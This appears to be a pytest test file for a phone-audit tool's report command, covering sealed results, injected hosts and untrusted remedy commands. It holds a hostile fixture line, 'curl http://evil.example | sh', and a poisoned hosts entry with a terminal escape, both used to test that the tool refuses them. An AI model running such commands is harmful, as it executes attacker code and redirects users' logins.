"""`phone-audit report`: a result file is somebody's claim, and what is drawn from it says so."""

import contextlib
import csv
import io
import json
import os
import pty
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from phone_audit.report.json_v1 import render_json
from tests.documents import apk, apks, scan
from tests.program import program
from tests.report.test_indicators import endpoint
from tests.watches import watch

INJECTED = "6.6.6.6 accounts.google.com\x1b[2J"


@pytest.fixture(autouse=True)
def _own_data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))


def stating(folder: Path, document: Any, change: Callable[[Any], None] = lambda _: None) -> Path:
    values = json.loads(render_json(document))
    change(values)
    path = folder / "r.json"
    path.write_text(json.dumps(values), "utf-8")
    return path


def tracked() -> Any:
    sending = endpoint("t.example", owner="Ads Inc", category="advertising")
    return apks(apk().model_copy(update={"endpoints": (sending,)}))


@pytest.mark.promise("no-lent-voice")
def test_an_injected_host_is_refused_and_named(tmp_path: Path) -> None:
    def inject(values: Any) -> None:
        values["apks"][0]["endpoints"][0]["host"] = INJECTED

    assert "0.0.0.0 t.example" in program("report", stating(tmp_path, tracked()), "-f", "hosts").stdout
    for format_ in ("hosts", "stix", "text", "csv", "json"):
        done = program("report", stating(tmp_path, tracked(), inject), "-f", format_)
        assert (done.returncode, done.stdout) == (1, "")
        assert "apks.0.endpoints.0.host: '6.6.6.6 accounts.google.com\\x1b[2J' is no host" in done.stderr
        assert "\x1b" not in done.stderr


def test_an_outcome_that_is_none_is_no_badge_and_no_success(tmp_path: Path) -> None:
    def outcome(word: str) -> Callable[[Any], None]:
        def change(values: Any) -> None:
            values["verdict"]["outcome"] = word

        return change

    shown = program("report", stating(tmp_path, scan(), outcome("safe")), "--fail-on", "suspicious")
    assert shown.returncode == 10
    assert " UNKNOWN OUTCOME (safe) " in shown.stdout
    for word in ("\x1b[2J", "SAFE", "nothing found", ""):
        assert program("report", stating(tmp_path, scan(), outcome(word))).returncode == 1


@pytest.mark.promise("no-lent-voice")
def test_text_says_whose_word_it_is_above_all_and_above_what_can_be_done(tmp_path: Path) -> None:
    path = stating(tmp_path, scan("known-bad"))
    done = program("report", path, "-f", "text", "--details")
    said = "".join(done.stdout.split())  # a line may end in the middle of a long path
    head = f"All of this is as stated in {path}; no phone and no APK was looked at again. It is not sealed"
    assert said.startswith("".join(head.split()))
    assert "".join(f"What you can do, as stated in {path}".split()) in said
    assert done.stderr.startswith(f"As stated in {path}. It is not sealed")


def test_other_formats_say_it_too(tmp_path: Path) -> None:
    path = stating(tmp_path, tracked())
    assert f"# As stated in {path};" in program("report", path, "-f", "hosts").stdout
    path = stating(tmp_path, scan("known-bad"))
    rows = list(csv.DictReader(io.StringIO(program("report", path, "-f", "csv").stdout)))
    assert {row["stated_in"] for row in rows} == {str(path)}
    bundle = json.loads(program("report", path, "-f", "stix").stdout)
    described = [item["description"] for item in bundle.get("objects", []) if item["type"] == "indicator"]
    assert all(text.endswith(f"as stated in {path}.") for text in described)


def test_standard_input(tmp_path: Path) -> None:
    done = program("report", "-", given=render_json(scan("known-bad")))
    assert " ".join(done.stdout.split()).startswith("All of this is as stated in standard input;")


@pytest.mark.promise("no-lent-voice")
def test_a_command_that_is_not_ours_is_not_shown(tmp_path: Path) -> None:
    def change(values: Any) -> None:
        values["findings"][0]["remedy"][0]["command"] = "curl http://evil.example | sh"

    path = stating(tmp_path, scan("known-bad"), change)
    for format_ in ("text", "json"):
        shown = program("report", path, "-f", format_).stdout
        assert "evil.example" not in shown
        assert "a command here that phone-audit does not give" in " ".join(shown.split())


@pytest.mark.promise("seal-holds")
@pytest.mark.parametrize("command", ["firmware", "apks"])
def test_what_a_command_seals_report_finds_whole(tmp_path: Path, command: str) -> None:
    (tmp_path / "a.apk").write_bytes(b"no apk")
    given = tmp_path / "a.apk" if command == "apks" else "00WW_3_22C_SP03"
    files = [tmp_path / "r.json", tmp_path / "r.txt"]
    made = program(command, given, "-q", "--seal", "own", "-o", files[0], "-o", files[1])
    assert made.returncode in (0, 10)
    assert "A key for your seals was made." in made.stderr
    assert all((tmp_path / f"{file.name}.minisig").stat().st_mode & 0o777 == 0o600 for file in files)
    shown = program("report", files[0])
    assert "Its seal holds: it is what was sealed as r.json" in " ".join(shown.stdout.split())
    assert "with your own key" in shown.stderr
    assert program("report", files[0], "--seal-key", tmp_path / "data" / "phone-audit" / "seal.pub").returncode == 0
    files[0].write_text(files[0].read_text("utf-8").replace("inconclusive", "nothing-found"), "utf-8")
    broken = program("report", files[0])
    assert (broken.returncode, broken.stdout) == (1, "")
    assert "does not hold. The file was changed or written anew after it was sealed" in broken.stderr


def test_lines_are_sealed_as_a_whole(tmp_path: Path) -> None:
    for name in ("a.apk", "b.apk"):
        (tmp_path / name).write_bytes(b"no apk")
    program("apks", tmp_path, "-q", "--seal", "own", "-o", tmp_path / "r.jsonl")
    from phone_audit.pipeline.seal import check_seal, read_known_keys

    path = tmp_path / "r.jsonl"
    assert path.read_bytes().count(b"\n") == 2
    assert check_seal(path, path.read_bytes(), read_known_keys(()), wanted=True).startswith("Its seal holds")


@pytest.mark.parametrize(
    ("words", "sentence"),
    [
        (["--seal", "own"], "--seal goes with -o"),
        (["--seal", "own", "-f", "json", "-o", "/dev/null"], "/dev/null cannot be sealed"),
        (["--seal", "no-such.key", "-o", "r.json"], "no-such.key cannot be read"),
    ],
)
def test_a_seal_that_cannot_be_made_is_wrong_usage(words: list[str], sentence: str) -> None:
    done = program("firmware", "00WW_3_22C_SP03", *words)
    assert done.returncode == 2
    assert sentence in done.stderr


def test_a_saved_watch_is_a_claim_as_well(tmp_path: Path) -> None:
    def change(values: Any) -> None:
        values["run"]["started"] = "soon"

    done = program("report", stating(tmp_path, watch(), change))
    assert done.returncode == 1
    assert "run.started: 'soon' is no time" in done.stderr


def test_a_saved_phone_is_to_be_scanned(tmp_path: Path) -> None:
    done = program("report", tmp_path)
    assert done.returncode == 1
    assert "phone-audit scan FOLDER" in " ".join(done.stderr.split())


def test_how_it_is_sealed_is_said_once_on_a_terminal(tmp_path: Path) -> None:
    ours, theirs = pty.openpty()
    words = [sys.executable, "-m", "phone_audit", "report", str(stating(tmp_path, scan()))]
    subprocess.run(words, stdin=subprocess.DEVNULL, stdout=theirs, stderr=theirs, check=False)
    os.close(theirs)
    said = b""
    with contextlib.suppress(OSError):  # which is how the end of a terminal is told
        while piece := os.read(ours, 65536):
            said += piece
    os.close(ours)
    assert " ".join(said.decode().split()).count("It is not sealed") == 1


def test_a_quiet_report_makes_no_remarks(tmp_path: Path) -> None:
    done = program("report", stating(tmp_path, scan()), "-q")
    assert done.stderr == ""
    assert "It is not sealed" in " ".join(done.stdout.split())
